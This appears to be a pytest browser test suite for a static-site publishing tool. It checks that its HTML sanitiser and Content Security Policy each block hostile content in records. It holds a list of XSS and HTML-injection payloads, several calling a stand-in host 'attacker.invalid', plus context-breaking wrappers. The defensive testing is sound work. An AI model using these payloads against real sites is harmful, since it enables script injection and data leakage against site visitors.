"""Hostile records in a real Chromium: the sanitiser alone makes them harmless, and so does the security policy."""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable, Iterator, Sequence
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from itertools import product
from pathlib import Path
from threading import Thread
from typing import Any

import pytest
from markupsafe import Markup

from mimkit.model.ids import ALPHABET
from mimkit.model.snapshot import Snapshot
from mimkit.publish import page, text

pytestmark = pytest.mark.browser
CHROMIUM = shutil.which("chromium")
ELSEWHERE = "http://attacker.invalid"
PAYLOADS = (
    "<script>window.pwned=1</script>",
    f"<script src={ELSEWHERE}/a.js></script>",
    f"<img src={ELSEWHERE}/a.png onerror=window.pwned=1>",
    "<svg/onload=window.pwned=1>",
    "<svg><script>window.pwned=1</script></svg>",
    f"<svg><image href={ELSEWHERE}/b.png /></svg>",
    "<iframe srcdoc='<script>parent.pwned=1</script>'></iframe>",
    f"<iframe src={ELSEWHERE}/frame></iframe>",
    "<details open ontoggle=window.pwned=1><summary>x</summary></details>",
    f"<video src={ELSEWHERE}/v.mp4 onerror=window.pwned=1 autoplay></video>",
    "<a class=try href=javascript:window.pwned=1>x</a>",
    "[x](javascript:window.pwned=1)",
    f"<link rel=stylesheet href={ELSEWHERE}/a.css>",
    f"<link rel=prefetch href={ELSEWHERE}/p.js>",
    f"<style>@import url({ELSEWHERE}/b.css);*{{background:url({ELSEWHERE}/c.png)}}</style>",
    f"<b style='background:url({ELSEWHERE}/d.png)'>x</b>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}/'>",
    f'<meta content="0;url={ELSEWHERE}/?>" HTTP-EQUIV=refresh>',
    f"<base href={ELSEWHERE}/>",
    f"<form action={ELSEWHERE}/><button class=try>x</button></form>",
    f"<object data={ELSEWHERE}/o></object><embed src={ELSEWHERE}/e>",
    "<input autofocus onfocus=window.pwned=1>",
    f"<a class=try href=#x ping={ELSEWHERE}/ping>x</a>",
    "<math><mi//xlink:href='data:x,<script>window.pwned=1</script>'>",
    "<body onload=window.pwned=1><marquee onstart=window.pwned=1>x</marquee>",
)
"""What runs, or asks somebody else for something, in a page that lets it through."""
KINDS = (
    "",
    "incidents/2026/MI-20261123-K7F/",
    "incidents/2026/MI-20260914-B3Q/",
    "incidents/",
    "actions/",
    "policy/",
    "problems/PB-20260914-H2W/",
    "runbooks/checkout-errors/",
    "services/checkout/",
)
"""A page of each kind with many words of records in it."""
WRAPS = (
    "{}",
    "</p></div></article>{}",
    '">{}',
    "'>{}",
    "</title></head>{}",
    "`code` {}",
    "- {}",
    "--> {}",
)
"""What a place in a page might be broken out of by."""


def hostile() -> list[str]:
    return [wrap.format(payload) for payload, wrap in product(PAYLOADS, WRAPS)]


class Server(SimpleHTTPRequestHandler):
    """Serves a folder, and under the name of a stranger nothing, but remembers that it was asked."""

    asked: list[str]

    def do_GET(self) -> None:
        if "attacker" in (self.headers.get("Host") or ""):
            self.asked.append(self.path)
            self.send_error(404)
        else:
            super().do_GET()

    do_POST = do_GET  # noqa: N815 - the name of the base class

    def log_message(self, format: str, *args: Any) -> None:  # noqa: A002 - the name of the base class
        """Say nothing."""


class Unmoved(ThreadingHTTPServer):
    def handle_error(self, request: Any, client_address: Any) -> None:
        """Say nothing of a browser that hung up."""


class Browser:
    """A Chromium for which the stranger's name leads to our own server, so that every request is seen to arrive."""

    def __init__(self, driver: Any, site: Path, error: type[Exception]) -> None:
        self._error = error
        self.asked: list[str] = []
        handler = type("Asked", (Server,), {"asked": self.asked})
        self.server = Unmoved(("127.0.0.1", 0), partial(handler, directory=str(site)))
        Thread(target=self.server.serve_forever, daemon=True).start()
        self.address = f"http://127.0.0.1:{self.server.server_port}/"
        rules = f"MAP attacker.invalid:80 127.0.0.1:{self.server.server_port}"
        self.chromium = driver.chromium.launch(
            executable_path=CHROMIUM, args=[*_ARGUMENTS, f"--host-resolver-rules={rules}"]
        )
        self.executed: list[str] = []
        self.pages = 0

    def visit(self, paths: Sequence[str]) -> None:
        tab = self.chromium.new_page()
        if len(paths) > 100:
            # Each page would fetch what thousands of words are found by; the shorter runs look at that.
            tab.route("**/search_index.json", lambda route: route.abort())
        for path in paths:
            self.pages += 1
            if self._was_taken(tab, path):
                self.executed.append(path)
        tab.close()

    def _was_taken(self, tab: Any, path: str) -> bool:
        try:
            tab.goto(self.address + path, wait_until="load")
            # A link within a drawing has no method for it.
            tab.evaluate(
                "document.querySelectorAll('.try').forEach("
                "each => each.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})))"
            )
            return tab.evaluate("window.pwned") is not None or not tab.url.startswith(self.address)
        except self._error:
            return True  # the page went elsewhere while it was looked at

    def close(self) -> None:
        self.chromium.close()
        self.server.shutdown()
        self.server.server_close()


_ARGUMENTS = [
    "--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run", "--disable-background-networking",
    "--disable-component-update", "--disable-sync",
]  # fmt: skip


@pytest.fixture
def visit(driver: Any) -> Iterator[Callable[..., Browser]]:
    playwright = pytest.importorskip("playwright.sync_api")
    started: list[Browser] = []

    def look(site: Path, paths: Sequence[str] = ()) -> Browser:
        browser = Browser(driver, site, playwright.Error)
        started.append(browser)
        browser.visit(paths or every(site))
        return browser

    yield look
    for browser in started:
        browser.close()


def every(site: Path) -> list[str]:
    return [f"{each.parent.relative_to(site).as_posix()}/" for each in sorted(site.rglob("index.html"))]


@pytest.fixture
def open_the_door(monkeypatch: pytest.MonkeyPatch) -> Iterator[Callable[[], None]]:
    """Let every word of a record through as it is: no escaping, no sanitiser, no syntax made inert."""
    plain = text.plain
    raw = lambda words, *_: Markup(words)  # noqa: E731 - four doors at once

    def opened() -> None:
        plain.cache_clear()
        monkeypatch.setattr(text, "_escape", str)
        monkeypatch.setattr(text, "_sanitised", Markup)
        monkeypatch.setattr(text, "_SYNTAX", {})
        for name in ("plain", "inline", "prose"):
            monkeypatch.setattr(text, name, raw)
        monkeypatch.setattr(page, "plain", raw)
        monkeypatch.setattr(page, "page_title", str)
        for name in ("prose", "inline"):
            monkeypatch.setitem(page._templates().filters, name, raw)

    yield opened
    monkeypatch.undo()
    plain.cache_clear()  # else the next test of this process would find the words that were let through


def write(root: Path, records: dict[str, Any]) -> None:
    for name, record in records.items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_text(json.dumps(record.model_dump(mode="json", by_alias=True, exclude_none=True)))


def without_policy(root: Path) -> None:
    configuration = root / "mkdocs.yml"
    configuration.write_text(
        configuration.read_text().replace("  - mimkit:\n", "  - mimkit:\n      security_policy: false\n")
    )


@pytest.fixture
def attacked(
    repository: Path, poisoned: Callable[[Sequence[str]], Snapshot]
) -> Callable[[Sequence[str]], Path]:
    """Write the organisation with hostile words in each place that takes any: one vector after the other."""

    def attack(vectors: Sequence[str]) -> Path:
        records = poisoned(vectors)
        found: dict[str, Any] = {}
        for key, incident in records.incidents.items():
            found[f"incidents/{key[3:7]}/{key}/incident.yaml"] = incident
        for key, review in records.reviews.items():
            found[f"incidents/{key[3:7]}/{key}/review.yaml"] = review
        found |= {f"incidents/problems/{key}.yaml": each for key, each in records.problems.items()}
        for kind in ("services", "runbooks", "groups", "rosters", "templates"):
            found |= {f"policy/{kind}/{key}.yaml": each for key, each in getattr(records, kind).items()}
        found |= {"policy/policy.yaml": records.policy, "policy/glossary.yaml": records.glossary}
        write(repository, found)
        return repository

    return attack


@pytest.mark.sweep
def test_with_the_policy_off_the_sanitiser_alone_lets_nothing_happen(
    attacked: Callable[[Sequence[str]], Path], built: Callable[..., Path], visit: Callable[..., Browser]
) -> None:
    root = attacked(hostile())
    without_policy(root)
    seen = visit(built(root), KINDS)
    assert (seen.executed, seen.asked) == ([], [])


@pytest.mark.sweep
def test_with_the_sanitiser_off_the_policy_alone_lets_nothing_happen(
    attacked: Callable[[Sequence[str]], Path],
    built: Callable[..., Path],
    visit: Callable[..., Browser],
    open_the_door: Callable[[], None],
) -> None:
    root = attacked(hostile())
    open_the_door()
    seen = visit(built(root, strict=False), KINDS)
    assert (seen.executed, seen.asked) == ([], [])


@pytest.mark.sweep
def test_with_both_off_it_does_happen_so_that_the_others_can_fail(
    attacked: Callable[[Sequence[str]], Path],
    built: Callable[..., Path],
    visit: Callable[..., Browser],
    open_the_door: Callable[[], None],
) -> None:
    # One word that stays on its page: a page that leads elsewhere for ever cannot be looked at.
    root = attacked([PAYLOADS[2]])
    without_policy(root)
    open_the_door()
    seen = visit(built(root, strict=False), KINDS[1:2])
    assert seen.executed
    assert seen.asked


@pytest.mark.sweep
def test_the_site_works_as_before_under_its_policy(
    repository: Path, built: Callable[..., Path], visit: Callable[..., Browser]
) -> None:
    browser = visit(built(repository), KINDS)
    tab = browser.chromium.new_page()
    refused: list[str] = []
    tab.on("console", lambda message: refused.append(message.text) if message.type == "error" else None)
    asked: list[str] = []
    tab.on("request", lambda request: asked.append(request.url))
    for path in ("", "incidents/2026/MI-20261123-K7F/", "policy/"):
        tab.goto(browser.address + path)
    tab.locator("input[name=query]").press_sequentially("pay")
    tab.wait_for_selector(".md-search-result__item")
    assert [each for each in refused if "Security" in each] == []
    assert {url for url in asked if not url.startswith(browser.address)} == set()
    assert tab.locator("meta[http-equiv=Content-Security-Policy]").count() == 1
    assert "'unsafe-inline'" not in tab.content()


def copies(poisoned: Callable[[Sequence[str]], Snapshot], vectors: Sequence[str]) -> dict[str, Any]:
    """Return two incidents, a review, a problem record, a service, a runbook and a group for each vector."""
    found: dict[str, Any] = {}
    for number, vector in enumerate(vectors):
        records = poisoned([vector])
        tail = ALPHABET[number // 32] + ALPHABET[number % 32]
        for source in ("MI-20261123-K7F", "MI-20260914-B3Q"):
            new = source[:-3] + source[-3] + tail
            folder = f"incidents/2026/{new}"
            found[f"{folder}/incident.yaml"] = records.incidents[source].model_copy(update={"id": new})
            if review := records.reviews.get(source):
                items = tuple(
                    each.model_copy(update={"id": f"AC-20260917-{place}{tail}"})
                    for place, each in enumerate(review.actions)
                )
                found[f"{folder}/review.yaml"] = review.model_copy(update={"incident": new, "actions": items})
        problem = records.problems["PB-20260914-H2W"]
        found[f"incidents/problems/PB-20260914-H{tail}.yaml"] = problem.model_copy(
            update={"id": f"PB-20260914-H{tail}", "incidents": (f"MI-20260914-B{tail}",)}
        )
        for kind, name in (("services", "checkout"), ("runbooks", "checkout-errors"), ("groups", "payments")):
            record = getattr(records, kind)[name].model_copy(update={"id": f"x{number}"})
            found[f"policy/{kind}/x{number}.yaml"] = record
    return found


@pytest.mark.long
@pytest.mark.parametrize("off", ["policy", "sanitiser"])
def test_two_hundred_vectors_in_every_place(  # noqa: PLR0917 - fixtures
    off: str,
    repository: Path,
    poisoned: Callable[[Sequence[str]], Snapshot],
    built: Callable[..., Path],
    visit: Callable[..., Browser],
    open_the_door: Callable[[], None],
) -> None:
    vectors = hostile()
    assert len(vectors) >= 200
    write(repository, copies(poisoned, vectors))
    if off == "policy":
        without_policy(repository)
    else:
        open_the_door()
    seen = visit(built(repository, strict=False))
    figures = f"{len(vectors)} vectors, {seen.pages} pages, {off} off: "
    print(figures + f"{len(seen.executed)} executed, {len(seen.asked)} asked")  # noqa: T201 - what a long run is for
    assert seen.pages > 1_000
    assert (seen.executed, seen.asked) == ([], [])
